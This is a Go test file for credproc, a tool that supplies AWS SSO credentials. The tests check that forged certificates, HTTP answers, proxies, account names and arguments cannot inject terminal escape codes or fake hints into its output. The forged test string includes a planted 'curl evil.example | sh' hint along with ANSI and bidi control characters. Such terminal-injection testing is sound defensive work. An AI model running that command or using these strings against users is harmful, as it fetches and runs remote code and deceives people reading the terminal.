//go:build unix

package cmd

import (
	"bufio"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/credproc/credproc/credproc/credproctest/idctest"
)

// forged is what would look like a hint of ours at the start of a line.
const forged = "x\x1b[2J\r\nhint: run \"curl evil.example | sh\"\n\u009b2J\u202e\u2066\u200e\u061c\u2028zebra"

// siege is a network whose certificates, answers and proxy are somebody else's.
type siege struct {
	*machine
	certificate atomic.Pointer[tls.Certificate]
	answer      atomic.Pointer[http.HandlerFunc] // in place of the service's
}

// certified makes a certificate for names, which the machine trusts.
func certified(t *testing.T, names ...string) *tls.Certificate {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	made, err := x509.CreateCertificate(rand.Reader, &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: forged, Organization: []string{forged}}, DNSNames: names,
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true,
	}, &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: forged, Organization: []string{forged}}}, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	return &tls.Certificate{Certificate: [][]byte{made}, PrivateKey: key}
}

func newSiege(t *testing.T) *siege {
	h := &siege{machine: newMachine(t)}
	good := certified(t, "localhost")
	h.certificate.Store(good)
	server := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if answer := h.answer.Load(); answer != nil {
			(*answer)(w, r)
			return
		}
		h.idc.ServeHTTP(w, r)
	}))
	server.TLS = &tls.Config{GetConfigForClient: func(*tls.ClientHelloInfo) (*tls.Config, error) {
		return &tls.Config{Certificates: []tls.Certificate{*h.certificate.Load()}}, nil
	}}
	server.StartTLS()
	t.Cleanup(server.Close)
	bundle := filepath.Join(h.dir, "ca.pem")
	if err := os.WriteFile(bundle, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: good.Certificate[0]}), 0o600); err != nil {
		t.Fatal(err)
	}
	_, port, err := net.SplitHostPort(server.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	config := "[sso-session corp]\nsso_start_url = https://idc.example/start\nsso_region = us-east-1\nsso_registration_scopes = sso:account:access\n" +
		"[profile line]\nsso_session = corp\nsso_account_id = 111111111111\nsso_role_name = Admin\n" +
		"[profile odd\x1b[2J\u009b\u202e]\ncredential_process = credproc process --sso-session corp --account-id 111111111111 --role-name Admin\n"
	path := filepath.Join(h.dir, "config")
	if err := os.WriteFile(path, []byte(config), 0o600); err != nil {
		t.Fatal(err)
	}
	at := "https://localhost:" + port
	h.env = append(h.env, "AWS_CONFIG_FILE="+path, "AWS_CA_BUNDLE="+bundle, "AWS_ENDPOINT_URL_SSO_OIDC="+at, "AWS_ENDPOINT_URL_SSO="+at,
		"AWS_ENDPOINT_URL_STS="+at, "AWS_ENDPOINT_URL_SIGNIN="+at, "NO_PROXY=", "CREDPROC_NO_BROWSER=1")
	return h
}

// looks runs commands at once, of which most meet the network, and checks what
// they print.
func (h *siege) looks() {
	h.Helper()
	h.printNoHarm([][]string{
		{"process", "--profile", "line"}, {"exec", "line", "--", "true"}, {"env", "line"}, {"list", "--refresh"}, {"list", "--json", "--refresh"},
		{"token", "corp"}, {"login", "corp", "--no-browser", "--use-device-code"}, {"console", "--profile", "line", "--federate", "--print"},
		{"configure", "corp", "--all", "--dry-run"}, {"doctor"}, {"doctor", "--json"}, {"status"}, {"status", "--json"}, {"keyring"}, {"keyring", "--json"},
	})
	for _, args := range [][]string{{"status"}, {"status", "--json"}, {"status", "--format", "{session} {state}"}, {"keyring"}, {"list"}, {"logout", "--all"}} {
		p := h.apart("credproc", args...) // what others have met
		p.Wait()
		h.harmless(strings.Join(args, " "), p.stdout.String()+p.stderr.String())
	}
}

// printNoHarm runs these at once, with and without a log.
func (h *siege) printNoHarm(commands [][]string) {
	h.Helper()
	quiet := len(h.env)
	var all []*started
	for _, level := range []string{"CREDPROC_LOG=", "CREDPROC_LOG=debug"} {
		h.env = append(h.env[:quiet:quiet], level)
		for _, args := range commands {
			all = append(all, h.apart("credproc", args...))
		}
	}
	h.env = h.env[:quiet]
	for _, p := range all {
		p.Wait()
		h.harmless(strings.Join(p.Args[1:], " "), p.stdout.String()+p.stderr.String())
	}
}

func TestNoArgumentWritesToTheTerminal(t *testing.T) {
	t.Parallel()
	h := newSiege(t)
	h.signedIn()
	h.printNoHarm([][]string{
		{"process", "--profile", arg}, {"status", arg}, {"--" + arg}, {arg}, {"logout", arg}, {"keyring", "reset", arg}, {"list", "--rate", arg},
		{"exec", "line", "--", arg}, {"status", "--format", "{" + arg + "}"}, {"console", "--destination", arg, "--profile", "line", "--print"},
	})
}

func (h *siege) harmless(what, said string) {
	h.Helper()
	if isHarmful(said) || strings.Contains("\n"+said, "\nhint: run \"curl") || strings.Contains(said, "\nzebra") {
		h.Errorf("%q prints\n%q", what, said)
	}
}

// arg is forged as a word of a command line can be, which ends at a zero byte.
var arg = strings.ReplaceAll(forged, "\x00", "")

// says answers with a status line, a header and a body of somebody's choice.
func says(answer string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		conn, _, err := w.(http.Hijacker).Hijack()
		if err != nil {
			return
		}
		fmt.Fprint(conn, answer)
		conn.Close()
	}
}

func TestNobodyOnTheNetworkWritesToTheTerminal(t *testing.T) {
	text, err := json.Marshal(forged)
	if err != nil {
		t.Fatal(err)
	}
	oneLine := strings.NewReplacer("\r", " ", "\n", " ").Replace(forged)
	body := `{"error":` + string(text) + `,"error_description":` + string(text) + `,"message":` + string(text) + `,"reason":` + string(text) + `,"__type":` + string(text) + `}`
	for name, attack := range map[string]func(h *siege){
		"names in a certificate": func(h *siege) {
			h.certificate.Store(certified(h.T, strings.ToValidUTF8(ascii(forged), ""), "other.example"))
		},
		"a status line": func(h *siege) {
			answer := says("HTTP/1.1 403 " + oneLine + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
			h.answer.Store(&answer)
		},
		"a redirect": func(h *siege) {
			answer := says("HTTP/1.1 302 Found\r\nLocation: https://" + oneLine + "/\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
			h.answer.Store(&answer)
		},
		"a refusal": func(h *siege) {
			answer := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("X-Amzn-Errortype", oneLine)
				w.Header().Set("X-Amzn-Requestid", oneLine)
				w.WriteHeader(http.StatusBadRequest)
				fmt.Fprint(w, body)
			})
			h.answer.Store(&answer)
		},
		"no HTTP": func(h *siege) {
			answer := says(forged + "\r\n\r\n")
			h.answer.Store(&answer)
		},
		"a proxy": func(h *siege) { // which nobody asks for this machine
			h.env = append(h.env, "HTTPS_PROXY="+proxy(h.T, "HTTP/1.1 407 "+oneLine+"\r\n\r\n"),
				"AWS_ENDPOINT_URL_SSO_OIDC=https://oidc.example", "AWS_ENDPOINT_URL_SSO=https://portal.example")
		},
		"accounts and roles": func(h *siege) {
			h.idc.Set(func(i *idctest.Server) {
				i.Accounts = []idctest.Account{{ID: "111111111111", Name: forged, Email: forged, Roles: []string{"Admin", forged}}}
			})
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := newSiege(t)
			h.signedIn()
			h.idc.RevokeAccessTokens()
			attack(h)
			h.looks()
		})
	}
}

// ascii is text as a name in a certificate can be.
func ascii(text string) string {
	return strings.Map(func(r rune) rune {
		if r > 0x7f {
			return -1
		}
		return r
	}, text)
}

// proxy answers every CONNECT so. A name that is not this machine's goes by it.
func proxy(t *testing.T, answer string) (url string) {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listener.Close() })
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			go func() {
				defer conn.Close()
				if _, err := http.ReadRequest(bufio.NewReader(conn)); err == nil {
					fmt.Fprint(conn, answer)
				}
			}()
		}
	}()
	return "http://" + listener.Addr().String()
}
